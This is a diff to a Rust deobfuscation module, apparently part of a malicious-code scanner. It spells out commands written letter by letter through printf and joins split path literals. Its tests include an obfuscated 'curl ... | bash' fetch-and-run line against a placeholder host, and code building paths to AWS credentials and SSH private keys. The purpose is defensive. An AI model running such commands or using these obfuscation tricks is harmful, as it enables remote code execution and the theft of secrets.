@@ -17,6 +17,10 @@ const MAX_VARS: usize = 4096;
 
 use super::regex as re;
 
+/// A word printed from its letters: `$(printf %s c u r l)`, `$(printf '%s' b a s h)`.
+static PRINTED: LazyLock<Regex> =
+    LazyLock::new(|| re(r#"\$\(\s*printf\s+["']?%s["']?\s+([^()\n]*?)\s*\)"#));
+
 static SHELL_ASSIGN: LazyLock<Regex> = LazyLock::new(|| {
     re(r"^\s*(?:export\s+|local\s+|readonly\s+|declare\s+(?:-\w+\s+)?)?([A-Za-z_]\w*)(\+)?=(\S.*)$")
 });
@@ -41,6 +45,21 @@ static ADJACENT: LazyLock<Regex> = LazyLock::new(|| re(r#"(["'])[ \t]+["']"#));
 /// pathlib's join of two literals: `".aws" / "credentials"`. A path character on both sides of
 /// the quotes, so that a `'/'` literal (`url.split('/')`, `a + '/' + b`) is not one.
 static PATH_JOIN: LazyLock<Regex> = LazyLock::new(|| re(r#"([\w.~-])["']\s*/\s*["']([\w.~-])"#));
+/// Literal arguments of a path join (`os.path.join(home, ".aws", "credentials")`,
+/// `path.join(os.homedir(), '.ssh', 'id_rsa')`, `.joinpath(".aws", "credentials")`).
+static PATH_ARGS: LazyLock<Regex> = LazyLock::new(|| re(r#"([\w.~-])["']\s*,\s*["']([\w.~-])"#));
+/// A call that joins path parts, up to its opening parenthesis.
+static PATH_CALL: LazyLock<Regex> = LazyLock::new(|| {
+    re(
+        r"(?:\bos\.path\.join|\bposixpath\.join|\bpath\.join|\bpath\.resolve|\.joinpath|\bPath)\s*\(",
+    )
+});
+/// Literals joined with the platform's separator (`".aws" + os.sep + "credentials"`).
+static PATH_SEP: LazyLock<Regex> = LazyLock::new(|| {
+    re(
+        r#"([\w.~-])["']\s*\+\s*(?:os\.(?:path\.)?sep|path\.sep|File\.separator)\s*\+\s*["']([\w.~-])"#,
+    )
+});
 static STRING: LazyLock<Regex> =
     LazyLock::new(|| re(r#""((?:[^"\\]|\\.)*)"|'((?:[^'\\]|\\.)*)'|`((?:[^`\\$]|\\.)*)`"#));
 static JOIN: LazyLock<Regex> =
@@ -405,15 +424,72 @@ pub fn unquote_shell(word: &str) -> String {
     out
 }
 
-/// A Python line with pathlib's joins of literals written as one path (`HOME / ".aws" /
-/// "credentials"` as `HOME / ".aws/credentials"`): the same file, spelled another way, not
-/// hidden. `None` when it joins none.
+/// A Python or JavaScript line with the joins of literal path parts written as one path: pathlib's
+/// `HOME / ".aws" / "credentials"` as `HOME / ".aws/credentials"`, the literal arguments of
+/// `os.path.join`, `path.join`, `path.resolve` or `joinpath` (`os.path.join(home, ".aws",
+/// "credentials")` as `os.path.join(home, ".aws/credentials")`) and literals joined with
+/// `os.sep`: the same file, spelled another way, not hidden. `None` when it joins none.
 pub fn path_joined(line: &str, lang: Lang) -> Option<String> {
-    (lang == Lang::Python
-        && line.len() <= MAX_BUILT
+    if line.len() > MAX_BUILT || !matches!(lang, Lang::Python | Lang::JavaScript) {
+        return None;
+    }
+    let slash = lang == Lang::Python
         && memchr::memchr(b'/', line.as_bytes()).is_some()
-        && PATH_JOIN.is_match(line))
-    .then(|| PATH_JOIN.replace_all(line, "$1/$2").into_owned())
+        && PATH_JOIN.is_match(line);
+    let call = (line.contains("join") || line.contains("resolve(") || line.contains("Path("))
+        && PATH_ARGS.is_match(line);
+    let sep = line.contains("sep") && PATH_SEP.is_match(line);
+    if !(slash || call || sep) {
+        return None;
+    }
+    let mut joined = line.to_string();
+    if slash {
+        joined = PATH_JOIN.replace_all(&joined, "$1/$2").into_owned();
+    }
+    if call && let Some(args) = call_args_joined(&joined) {
+        joined = args;
+    }
+    if sep {
+        joined = PATH_SEP.replace_all(&joined, "$1/$2").into_owned();
+    }
+    (joined != line).then_some(joined)
+}
+
+/// `line` with the literal arguments of each path-joining call ([`PATH_CALL`]) written as
+/// one path; a list's `.join` (`['cu', 'rl'].join('')`) is not a path. `None` when none.
+fn call_args_joined(line: &str) -> Option<String> {
+    let mut out = String::new();
+    let mut last = 0;
+    for m in PATH_CALL.find_iter(line) {
+        let open = m.end();
+        if open <= last {
+            continue;
+        }
+        let mut depth = 1usize;
+        let mut close = line.len();
+        for (i, b) in line.as_bytes()[open..].iter().enumerate() {
+            match b {
+                b'(' => depth += 1,
+                b')' => {
+                    depth -= 1;
+                    if depth == 0 {
+                        close = open + i;
+                        break;
+                    }
+                }
+                _ => {}
+            }
+        }
+        if let std::borrow::Cow::Owned(args) = PATH_ARGS.replace_all(&line[open..close], "$1/$2") {
+            out.push_str(&line[last..open]);
+            out.push_str(&args);
+            last = close;
+        }
+    }
+    (last > 0).then(|| {
+        out.push_str(&line[last..]);
+        out
+    })
 }
 
 /// `line` with split literals joined: quotes removed from shell words, `"a" + "b"` joined in
@@ -423,6 +499,14 @@ pub fn join(line: &str, lang: Lang) -> String {
         return line.to_string();
     }
     match lang {
+        Lang::Shell if line.contains("$(printf") => {
+            let printed = PRINTED.replace_all(line, |c: &regex::Captures| {
+                c[1].split_whitespace()
+                    .map(|w| w.trim_matches(['"', '\'']))
+                    .collect::<String>()
+            });
+            unquote_shell(&printed)
+        }
         Lang::Shell => unquote_shell(line),
         Lang::PowerShell => {
             let joined = CONCAT.replace_all(line, "");
@@ -445,6 +529,19 @@ mod tests {
     use super::*;
 
     #[test]
+    fn a_word_printed_from_its_letters_is_spelled() {
+        assert_eq!(
+            join(
+                "$(printf %s c u r l) -s https://x.example/d | $(printf '%s' b a s h)",
+                Lang::Shell
+            ),
+            "curl -s https://x.example/d | bash"
+        );
+        // A printf that is not substituted prints; it names no command.
+        assert_eq!(join("printf '%s' a b", Lang::Shell), "printf %s a b");
+    }
+
+    #[test]
     fn pathlib_joins_of_literals_are_spelled_as_one_path() {
         assert_eq!(
             path_joined(r#"aws = HOME / ".aws" / "credentials""#, Lang::Python).as_deref(),
@@ -457,6 +554,48 @@ mod tests {
             None
         );
         assert_eq!(path_joined(r#"x = "a" / "b""#, Lang::Shell), None);
+        assert_eq!(
+            path_joined(
+                r#"p = os.path.join(os.path.expanduser("~"), ".aws", "credentials")"#,
+                Lang::Python
+            )
+            .as_deref(),
+            Some(r#"p = os.path.join(os.path.expanduser("~"), ".aws/credentials")"#)
+        );
+        assert_eq!(
+            path_joined(
+                "const p = path.join(os.homedir(), '.ssh', 'id_rsa');",
+                Lang::JavaScript
+            )
+            .as_deref(),
+            Some("const p = path.join(os.homedir(), '.ssh/id_rsa');")
+        );
+        assert_eq!(
+            path_joined(
+                "p = os.path.expanduser('~') + os.sep + '.aws' + os.sep + 'credentials'",
+                Lang::Python
+            )
+            .as_deref(),
+            Some("p = os.path.expanduser('~') + os.sep + '.aws/credentials'")
+        );
+        // Arguments of a call that joins no path stay apart, and so do a list's items.
+        assert_eq!(path_joined(r#"print("a", "b")"#, Lang::Python), None);
+        assert_eq!(
+            path_joined(
+                "const r = require(['child', 'process'].join('_'));",
+                Lang::JavaScript
+            ),
+            None
+        );
+        assert_eq!(
+            path_joined(
+                r#"p = Path.home().joinpath(".aws", "credentials")"#,
+                Lang::Python
+            )
+            .as_deref(),
+            Some(r#"p = Path.home().joinpath(".aws/credentials")"#)
+        );
+        assert_eq!(path_joined("total = a / b", Lang::JavaScript), None);
     }
 
     #[test]
